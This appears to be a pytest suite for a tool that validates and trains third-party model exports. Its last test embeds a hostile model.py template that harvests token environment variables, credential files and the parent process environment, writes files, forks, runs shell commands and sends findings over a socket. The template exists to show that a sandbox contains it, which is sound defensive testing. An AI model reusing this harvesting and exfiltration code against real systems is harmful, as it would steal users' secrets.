"""Models from elsewhere through the doors people use: example exports get their verdict, the sound ones train."""

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from tests.conftest import ROOT
from utils.runs.folder import RunFolder
from utils.tests.models.github_server import FIRST, ID, GitHub
from utils.tests.walls import needs_walls

pytestmark = needs_walls

EXPORTS = ROOT / "tests" / "exports"
SOUND = {
    "alibi_dict": "causal", "decoder": "causal", "encoder": "masked", "encoder_decoder": "seq2seq", "moe": "causal",
    "rotary": "causal", "classifier": "classification",
}  # fmt: skip
BROKEN = {
    "broken_intermediates": ("forward-takes-intermediates", "mhsa_0_output, residual_0_output"),
    "broken_undefined": ("undefined-name", "model.py:26: residual_0_output"),
    "broken_no_head": ("no-output-head", "hidden states"),
    "broken_vocabulary": ("vocabulary-mismatch", "1000 tokens"),
    "broken_no_mask": ("causality", "later token"),
}
QUICK = ("data.size=20000", "train.batch_size=2", "train.warmup_steps=2", "train.threads=1", "train.eval_batches=2")


def test_every_export_is_in_one_list():
    assert {path.parent.name for path in EXPORTS.glob("*/model.py")} == {*SOUND, *BROKEN}


@pytest.mark.parametrize("name", SOUND)
def test_a_sound_export_is_said_to_be_sound(tbt, name: str):
    done = tbt("validate", EXPORTS / name, "--json")
    report = json.loads(done.stdout)
    assert done.returncode == 0, done.stdout
    assert report["verdict"] == "sound"
    (interface,) = [check for check in report["checks"] if check["name"] == "interface"]
    assert interface["values"]["task"] == SOUND[name]


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_export_gets_its_diagnosis(tbt, name: str):
    done = tbt("validate", EXPORTS / name, "--json")
    failed = {check["name"]: check for check in json.loads(done.stdout)["checks"] if check["status"] == "fail"}
    code, words = BROKEN[name]
    assert done.returncode == 1
    assert list(failed) == [code]  # this, and nothing else
    assert words in failed[code]["measured"]
    assert failed[code]["advice"]


def test_files_that_cannot_be_read_are_a_verdict_too(tbt, tmp_path: Path):
    export = tmp_path / "cut off"
    export.mkdir()
    (export / "model.py").write_text("import torch\n\nclass Net(torch.nn.Module:\n    pass\n")
    (export / "config.json").write_text("{}")
    done = tbt("validate", export, "--save", "page.html")
    assert done.returncode == 1
    assert "NOT SOUND" in done.stdout
    assert "model.py:3: not Python" in done.stdout
    assert "syntax-error" in (tmp_path / "page.html").read_text()


@pytest.mark.parametrize("name", [name for name, task in SOUND.items() if task != "classification"])
def test_a_sound_export_trains_at_its_task(tbt, tmp_path: Path, name: str):
    words = ["model.kind=builder", f"model.ref={EXPORTS / name}", "train.max_steps=20", "train.sample_every=20"]
    done = tbt("train", *words, "train.sample_tokens=8", *QUICK, "train.batch_size=8",
               "train.log_every=1", "--run-dir", "run")  # fmt: skip
    assert done.returncode == 0, done.stderr
    run = RunFolder(tmp_path / "run")
    meta = run.read_json("meta")
    assert (run.state()["step"], meta["task"]) == (20, SOUND[name])
    losses = [row["train/loss"] for row in run.metrics() if row["kind"] == "train"]
    assert sum(losses[-5:]) < sum(losses[:5])
    assert meta["source"]["sha256"]["model.py"]
    assert run.events("sample")[-1]["text"]
    assert "fitted to the model: data.vocab_size=" in done.stderr
    written = tbt("generate", "run", "--prompt", "Once", "--max-new-tokens", 5)
    assert written.returncode == 0, written.stderr
    assert written.stdout.startswith("Once")


def test_a_classifier_says_why_it_does_not_train(tbt, tmp_path: Path):
    done = tbt("train", "model.kind=builder", f"model.ref={EXPORTS / 'classifier'}", *QUICK, "--run-dir", "run")
    assert done.returncode == 2
    assert "this model is a classifier" in done.stderr
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("name", ["broken_intermediates", "broken_no_head"])
def test_a_broken_export_does_not_train_and_leaves_nothing(tbt, tmp_path: Path, name: str):
    done = tbt("train", "model.kind=builder", f"model.ref={EXPORTS / name}", *QUICK, "--run-dir", "run")
    assert done.returncode == 2
    assert "model.py:" in done.stderr
    assert "\n  -> " in done.stderr
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "run").exists()


def test_a_killed_run_goes_on_from_its_own_copy_of_the_code(tbt, tmp_path: Path):
    export = shutil.copytree(EXPORTS / "decoder", tmp_path / "export")
    words = ["train", "model.kind=builder", f"model.ref={export}", *QUICK, "train.save_every=2", "train.log_every=1"]
    whole = tbt(*words, "train.max_steps=12", "--run-dir", "whole")
    assert whole.returncode == 0, whole.stderr
    command = [sys.executable, "-m", "utils", *words, "train.max_steps=12", "--run-dir", "killed"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    process = subprocess.Popen(command, cwd=tmp_path, env=environment, start_new_session=True)
    run, end = RunFolder(tmp_path / "killed"), time.monotonic() + 120
    while not run.events("saved") and time.monotonic() < end:
        time.sleep(0.02)
    os.killpg(process.pid, 9)
    process.wait()
    shutil.rmtree(export)
    again = tbt(*words, "train.max_steps=12", "--run-dir", "killed")
    assert again.returncode == 0, again.stderr
    both = [tmp_path / name / "checkpoints" / "step-0000000012" / "model.safetensors" for name in ("whole", "killed")]
    assert both[0].read_bytes() == both[1].read_bytes()
    (tmp_path / "killed" / "source" / "model.py").write_text("changed = True\n")
    assert "is not as it was when this run began" in tbt(*words, "train.max_steps=12", "--run-dir", "killed").stderr


def test_a_gist_is_pinned_to_the_commit_the_run_began_with(tbt, tmp_path: Path):
    with GitHub() as github:
        github.put({path.name: path.read_bytes() for path in (EXPORTS / "decoder").iterdir()})
        environment = {"GITHUB_API_URL": github.url, "TBT_CACHE": str(tmp_path / "cache")}
        words = ["train", "--model", ID, *QUICK, "train.max_steps=4", "--run-dir", "run"]
        done = tbt(*words, env=environment)
        assert done.returncode == 0, done.stderr
        first = RunFolder(tmp_path / "run").read_json("meta")["source"]["revision"]
        assert first == FIRST
        checked = tbt("validate", ID, "--json", env=environment)
        assert checked.returncode == 0
    again = tbt(*words, env=environment)  # the server is gone: the run has all it needs
    assert again.returncode == 0, again.stderr
    assert f"revision: {first}" in (tmp_path / "run" / "config.yaml").read_text()


HOSTILE = """
import os, socket, torch
from torch import nn

FOUND = []


def attempt(what, act):
    try:
        FOUND.append((what, str(act())[:200]))
    except BaseException:
        pass


def tell():
    connection = socket.create_connection(("127.0.0.1", {port}), 2)
    connection.sendall(repr(FOUND).encode())


attempt("environment", lambda: {{k: v for k, v in os.environ.items() if "TOKEN" in k}} or 1 / 0)
attempt("secret", lambda: open("{home}/.token").read())
attempt("parent", lambda: open(f"/proc/{{os.getppid()}}/environ").read())
attempt("wrote home", lambda: open("{home}/pwned", "w").write("x"))
attempt("wrote its own home", lambda: open(os.path.expanduser("~/x"), "w").write("x"))
attempt("forked", lambda: [os.fork() for _ in range(3)])
attempt("ran", lambda: os.system("touch {home}/pwned"))
attempt("told", tell)


class Model(nn.Module):
    def __init__(self, vocab_size=64):
        super().__init__()
        self.emb = nn.Embedding(vocab_size, 16)
        self.head = nn.Linear(16, vocab_size)
        self.found = FOUND

    def forward(self, idx):
        {act}
        return self.head(self.emb(idx))
"""
ACTS = {
    "reads": "pass",
    "hangs": "while True: pass",
    "eats memory": "torch.ones(50 * 2**30 // 4).sum()",
    "crashes": "import ctypes; ctypes.string_at(0)",
}


@pytest.mark.parametrize("name", ACTS)
def test_hostile_code_is_reported_and_reaches_nothing(tbt, tmp_path: Path, name: str):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".token").write_text("hf_not_a_real_token")
    before = sorted(home.iterdir())
    received: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=lambda: received.append(server.accept()[0].recv(1000)), daemon=True).start()
        export = tmp_path / "hostile"
        export.mkdir()
        code = HOSTILE.format(port=server.getsockname()[1], home=home, act=ACTS[name])
        (export / "model.py").write_text(code)
        (export / "config.json").write_text('{"vocab_size": 64}')
        secrets = {"HF_TOKEN": "hf_not_a_real_token", "HOME": str(home), "TBT_CACHE": str(tmp_path / "cache")}
        done = tbt("validate", export, "--json", "--check-seconds", 30, env=secrets)
        checks = {check["name"]: check for check in json.loads(done.stdout)["checks"]}
    assert done.returncode == 1
    assert received == []
    assert sorted(home.iterdir()) == before
    assert checks["code"]["status"] == "warn"
    assert "network" in checks["code"]["measured"]
    assert checks["walls"]["status"] == "pass"
    failed = [check["measured"] for check in checks.values() if check["status"] == "fail"]
    said = {"hangs": "did not end within", "eats memory": "memory", "crashes": "SIGSEGV", "reads": "moved no later"}
    assert any(said[name] in measured for measured in failed), failed
